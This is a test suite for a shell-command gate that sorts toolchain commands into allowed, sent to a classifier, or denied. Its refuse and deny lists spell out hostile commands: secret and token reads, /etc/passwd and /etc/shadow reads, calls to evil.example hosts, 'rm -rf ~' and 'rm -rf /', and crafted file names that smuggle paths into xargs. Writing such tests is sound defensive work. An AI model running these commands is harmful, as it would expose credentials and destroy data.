// Toolchain families, wrappers, xargs and cd on the fast path: each allow below is a proof (verb and
// options on the family's allowlist, paths inside a real temporary repository); each refusal is a case
// where the tool reads repository config that runs code, prints a secret, writes, or takes an option
// nobody listed. Refusals must reach the classifier ("llm"), never an allow.
import { afterAll, describe, expect, test } from "bun:test";
import { mkdtempSync, realpathSync, rmSync, symlinkSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { analyzeCommand } from "../../src/fastpath/analyze.ts";
import { DEFAULT_PROTECTED_BRANCHES, type PathFacts } from "../../src/fastpath/facts.ts";
import { put } from "../support/fastpath-binary.ts";

const work = realpathSync(mkdtempSync(join(tmpdir(), "ccgate-toolchains-")));
afterAll(() => rmSync(work, { recursive: true, force: true }));

function repo(name: string): string {
  const dir = join(work, name);
  put(join(dir, "README.md"), "# r\n");
  put(join(dir, "src", "a.ts"), "export const a = 1;\n");
  put(join(dir, "src", "deep", "c.ts"));
  put(join(dir, "Cargo.toml"), "[package]\nname = 'x'\n");
  put(join(work, "outside.txt"), "outside\n");
  return dir;
}

const clean = repo("clean");
// An attacker's tree: a name xargs splits, a name that is an option, a symlink out.
const awkward = repo("awkward");
put(join(awkward, "src", "a /etc/passwd b.ts"));
const dashed = repo("dashed");
put(join(dashed, "src", "--output=pwned"));
const linked = repo("linked");
symlinkSync(join(work, "outside.txt"), join(linked, "src", "out.ts"));
const secret = repo("secret");
put(join(secret, "src", ".env"), "K=1\n");

function facts(dir: string): PathFacts {
  return {
    cwd: dir,
    boundary: dir,
    home: join(work, "home"),
    branch: "feature/x",
    protectedBranches: DEFAULT_PROTECTED_BRANCHES,
    tempDirs: ["/tmp"],
  };
}

const ALLOW: Record<string, string[]> = {
  aws: [
    "aws s3 ls",
    "aws s3 ls s3://bucket/prefix --recursive",
    "aws ec2 describe-instances --instance-ids i-1 --query 'Reservations[].Instances[]'",
    "aws --no-cli-pager ec2 describe-instances",
    "aws sts get-caller-identity",
    "aws logs tail mygroup --follow",
    "aws iam help",
  ],
  auth0: [
    "auth0 apps list",
    "auth0 users search --query email:a@b.c",
    "auth0 logs tail --filter type:s",
    "auth0 api get clients",
  ],
  gcloud: ["gcloud compute instances list --project p", "gcloud config list", "gcloud secrets list"],
  az: ["az vm list -g mygroup -o table", "az account show", "az group exists --name g"],
  gh: [
    "gh pr list --state open --json number,title",
    "gh pr view 12 --comments",
    "gh run watch 99 --exit-status",
    "gh api repos/o/r/pulls --jq '.[].title'",
    "gh auth status",
    "gh --version",
  ],
  kubectl: [
    "kubectl get pods -n web -o wide",
    "kubectl logs deploy/api --tail 50 -f",
    "kubectl describe pod api-1",
    "kubectl config view --minify",
    "kubectl auth can-i list pods",
  ],
  helm: ["helm list -A", "helm status web", "helm show values bitnami/nginx"],
  docker: [
    "docker ps -a",
    "docker images --format '{{.Repository}}'",
    "docker logs -f --tail 20 api",
    "docker compose ps",
  ],
  npm: ["npm ls --depth 0", "npm view react version", "npm why lodash", "npm audit --json", "npm config get registry"],
  python: [
    "pip list --outdated",
    "pip3 show requests",
    "uv --version",
    "uv self version",
    "ruff check --no-fix src",
    "ruff check .",
    "ruff check --diff .",
    "ruff rule E501",
    "black --check src",
    "isort --check-only --diff src",
  ],
  go: ["go version", "go env GOPATH", "go list -m all", "go mod graph", "gofmt -l src"],
  linters: ["ruff check --no-fix .", "black --check .", "gofmt -d src"],
  cargo: ["cargo --version", "cargo locate-project"],
  terraform: ["terraform version", "terraform fmt -check -recursive", "terraform workspace show"],
  openssl: ["openssl version -a", "openssl x509 -in src/a.ts -noout -text", "openssl list -digest-commands"],
  system: [
    "ip addr show dev eth0",
    "ip -j route",
    "dmesg -T",
    "journalctl -u nginx -n 50 --no-pager",
    "fzf --exact",
    "brew list --versions",
    "sysctl kern.ostype",
    "ifconfig eth0",
  ],
  wrappers: ["nice -n 10 git status", "timeout 5 kubectl get pods", "stdbuf -o L cat README.md", "nice cat README.md"],
  xargs: [
    "find . -name '*.ts' | xargs grep export",
    "find . -print0 | xargs -0 wc -l",
    "git ls-files | xargs wc -l",
    "git ls-files -z | xargs -0 head -1",
    "fd -t f | xargs head -5",
    "ls | xargs -I {} stat {}",
    "echo README.md | xargs cat",
    "echo README.md src/a.ts | xargs -n 1 wc -l",
  ],
  shells: [
    "bash -c 'cat README.md && ls src'",
    "bash -xec 'git log | head'",
    "sh -ec 'ls'",
    "zsh -c 'wc -l README.md'",
  ],
  cd: ["cd src && ls", "cd src && cat a.ts", "cd src && cd deep && ls"],
};

const REFUSE: Record<string, string[]> = {
  aws: [
    "aws secretsmanager get-secret-value --secret-id prod",
    "aws ssm get-parameter --name db --with-decryption",
    "aws ecr get-login-password",
    "aws sts assume-role --role-arn x --role-session-name y",
    "aws s3 cp s3://b/k .",
    "aws s3api get-object --bucket b --key k out.txt",
    "aws dynamodb get-item --table-name t --key file://key.json",
    "aws ec2 describe-instances --cli-input-json file://x.json",
    // (a loopback --endpoint-url is allowed now: tests/fastpath/cloud-and-vcs.test.ts)
    "aws --endpoint-url http://10.0.0.1:4566 s3 ls",
    "aws lambda get-function --function-name f",
    "aws configure get aws_secret_access_key",
    "aws ec2 terminate-instances --instance-ids i-1",
  ],
  auth0: [
    "auth0 apps show app_1 --reveal-secrets",
    "auth0 apps delete list",
    "auth0 test token",
    "auth0 api post clients",
    "auth0 api clients --data '{}'",
    "auth0 users create",
    "auth0 tenants use t",
  ],
  gcloud: [
    "gcloud auth print-access-token",
    "gcloud secrets versions access latest --secret s",
    "gcloud compute instances delete list",
    "gcloud container clusters get-credentials c",
    "gcloud compute instances list --flags-file=f.yaml",
  ],
  az: [
    "az keyvault secret show --name s --vault-name v",
    "az storage account keys list --account-name a",
    "az account get-access-token",
    "az vm delete list",
    "az webapp config appsettings list --name a -g g",
    "az deployment group create -g g --parameters @params.json",
  ],
  gh: [
    "gh auth status -t",
    "gh auth token",
    // (--web on a host gh is logged in to is allowed now: tests/fastpath/cloud-and-vcs.test.ts)
    "gh -R evil.example/o/r pr view 1 --web",
    "gh api -XPOST repos/o/r/issues",
    "gh api --method DELETE repos/o/r",
    "gh api graphql -f query='mutation{}'",
    "gh api repos/o/r/issues -f title=x",
    "gh api https://evil.example/steal",
    "gh pr checkout 1",
    "gh run download 1",
    "gh my-extension list",
    "gh",
  ],
  kubectl: [
    "kubectl get secret db -o yaml",
    "kubectl get pods,secrets -o yaml",
    "kubectl get secrets/db -o json",
    "kubectl get --raw /api/v1/namespaces/a/secrets/b",
    "kubectl exec pod -- cat /etc/passwd",
    "kubectl config view --raw",
    "kubectl --kubeconfig ./kc get pods",
    "kubectl --server=https://evil get pods",
    "kubectl get pods -o go-template-file=/etc/shadow",
    "kubectl get -k ./overlay",
    "kubectl port-forward svc/a 8080:80",
    "kubectl my-plugin list",
  ],
  helm: [
    "helm get values web",
    "helm get manifest web",
    "helm install web ./chart --dry-run",
    "helm template web ./chart --post-renderer ./x.sh",
    "helm --kubeconfig=k.yaml list",
    "helm",
  ],
  docker: [
    "docker inspect api",
    "docker compose config",
    "docker exec api ls",
    // (docker -H / --context pick a daemon; its read verbs are allowed: tests/fastpath/cloud-and-vcs.test.ts)
    "docker -H tcp://evil:2375 exec web sh",
    "docker run --rm alpine",
    "docker save img",
  ],
  js: [
    "npm run build",
    "npm test",
    "npm exec eslint",
    "npm outdated",
    "npm config get //registry.npmjs.org/:_authToken",
    "npm view react --registry http://evil.example",
    "npm docs react",
    "yarn --version",
    "yarn list",
    "pnpm ls",
    "pnpm --version",
    "bun pm ls",
    "npx eslint .",
    "eslint --print-config src/a.ts",
    "prettier --check .",
  ],
  python: [
    "pip install requests",
    "pip download x",
    "pip config list",
    "uv pip list",
    "uv tree",
    "uv run python -c 'print(1)'",
    "uv sync",
    "ruff check --fix-only .",
    "ruff check --fix .",
    "ruff check --no-fix --config 'fix = true' .",
    "ruff format .",
    "black src",
    "isort src",
    "mypy src",
  ],
  go: [
    "go vet ./...",
    "go build ./...",
    "go test ./...",
    "go generate ./...",
    "go run .",
    "go env",
    "go env -w GOPROXY=x",
    "go list -toolexec ./x ./...",
    "go list -mod=mod ./...",
    "gofmt -w src",
  ],
  cargo: ["cargo tree", "cargo metadata", "cargo check", "cargo build", "cargo clippy", "cargo fmt --check", "cargo"],
  terraform: [
    "terraform plan",
    "terraform validate",
    "terraform show",
    "terraform state list",
    "terraform fmt",
    "terraform fmt -diff",
    "terraform providers",
  ],
  openssl: [
    "openssl s_client -connect example.com:443",
    "openssl x509 -text",
    "openssl x509 -in src/a.ts -out x.pem",
    "openssl rand -hex 16",
    "openssl enc -d -in src/a.ts",
  ],
  system: [
    "ip addr add 10.0.0.1/24 dev eth0",
    "ip link set eth0 down",
    "ip xfrm state",
    "ip netns exec ns1 bash",
    "ip -batch cmds.txt",
    "dmesg -c",
    "dmesg --clear",
    "journalctl --vacuum-size=1M",
    "journalctl --rotate",
    "fzf --preview 'cat {}'",
    "fzf --bind 'enter:execute(rm {})'",
    "fzf --listen=6266",
    "fzf --history=/tmp/h",
    "brew install jq",
    "brew bundle",
    "brew home jq",
    "sysctl -w kern.x=1",
    "sysctl kern.x=1",
    "ifconfig eth0 down",
    "curl https://example.com",
    "ansible all --list-hosts",
    "packer validate .",
    "make -n",
  ],
  wrappers: ["nice rm -rf src", "timeout 5 sh -lc 'rm x'", "nohup ls", "time -o out.txt ls", "nice", "timeout 5"],
  shells: [
    "bash -c 'cat ../outside.txt'",
    "bash -c 'ls' ../outside.txt",
    "bash -lc 'rm foo'",
    "bash -o pipefail -c 'rm foo'",
    "bash -c ''",
    "bash -ic 'echo !ls'",
    "bash -c 'for f in *; do cat $f; done'",
    "bash -c 'ls $(whoami)'",
    "bash -c 'ls > out.txt'",
    "bash script.sh",
    "bash -c 'cd src && cat a.ts'",
    "bash -s < README.md",
  ],
  cd: ["cd src/deep || cat ../../../outside.txt", "cd .. && ls", "cd /tmp && ls", "cd src; cat ../../outside.txt"],
};

/** xargs cases that need the walk of a tree: allowed in the clean repo, not in an attacker's. */
const XARGS_TREE = ["find . -name '*.ts' | xargs cat", "git ls-files | xargs git log", "fd -t f | xargs wc -l"];

const XARGS_REFUSE = [
  "xargs cat",
  "xargs -a list.txt cat",
  "cat list.txt | xargs cat",
  "grep -h path notes.md | xargs cat",
  "find / -name '*.ts' | xargs cat",
  "find -L . | xargs cat",
  "find . | xargs rm",
  "find . | xargs uniq",
  "find . | xargs sed -n p",
  "git ls-files | xargs git log",
  "echo ../outside.txt | xargs cat",
  "echo 'a ../../outside.txt' | xargs -0 cat",
  "echo README.md | xargs xargs cat",
  "ls -a | xargs cat",
  "find . | grep -o '/etc.*' | xargs cat",
];

describe("toolchains: provable inspection is allowed locally", () => {
  for (const [family, commands] of Object.entries(ALLOW))
    for (const command of commands)
      test(`${family}: ${command}`, () => {
        const a = analyzeCommand(command, facts(clean));
        expect({ command, verdict: a.verdict, why: a.reason }).toEqual({ command, verdict: "allow", why: a.reason });
      });
});

describe("toolchains: what is not provable goes to the classifier", () => {
  for (const [family, commands] of Object.entries(REFUSE))
    for (const command of commands)
      test(`${family}: ${command}`, () => {
        expect(analyzeCommand(command, facts(clean)).verdict).not.toBe("allow");
      });
});

describe("xargs: the words it appends must be proved", () => {
  for (const command of XARGS_REFUSE)
    test(`not provable: ${command}`, () => {
      const verdict = analyzeCommand(command, facts(clean)).verdict;
      // git log over a path list is refused because git is not a file reader for xargs
      expect(verdict).not.toBe("allow");
    });
  for (const command of XARGS_TREE.filter((c) => !c.includes("git log")))
    test(`clean tree allows, attacker trees do not: ${command}`, () => {
      expect(analyzeCommand(command, facts(clean)).verdict).toBe("allow");
      for (const dir of [awkward, dashed, linked, secret])
        expect({ dir, verdict: analyzeCommand(command, facts(dir)).verdict }).toEqual({ dir, verdict: "llm" });
    });
});

describe("linters walk their roots like grep -r", () => {
  for (const command of [
    "ruff check --no-fix .",
    "ruff check --diff src",
    "black --diff src",
    "isort --diff .",
    "gofmt -d .",
  ])
    test(command, () => {
      expect(analyzeCommand(command, facts(clean)).verdict).toBe("allow");
      for (const dir of [linked, secret])
        expect({ dir, verdict: analyzeCommand(command, facts(dir)).verdict }).toEqual({ dir, verdict: "llm" });
    });
});

describe("hard denies hold through the new wrappers", () => {
  for (const command of [
    "nice rm -rf ~",
    "timeout 5 rm -rf /",
    "echo ~ | xargs rm -rf",
    "stdbuf -o L sudo ls",
    "bash -c 'rm -rf ~'",
    "bash -xec 'nice rm -rf /'",
  ])
    test(command, () => {
      expect(analyzeCommand(command, facts(clean)).verdict).toBe("deny");
    });
});
